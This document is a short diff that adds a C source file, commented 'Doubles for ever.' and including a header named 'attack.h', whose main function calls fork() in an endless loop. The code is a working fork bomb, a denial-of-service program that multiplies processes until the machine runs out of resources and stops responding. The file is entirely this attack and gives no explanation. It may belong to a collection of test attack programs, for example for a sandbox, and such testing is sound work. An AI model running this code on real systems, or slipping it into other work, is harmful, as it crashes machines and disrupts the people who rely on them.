@@ -1,0 +1,8 @@
+/* Doubles for ever. */
+#include "attack.h"
+
+int main()
+{
+    for (;;)
+        fork();
+}
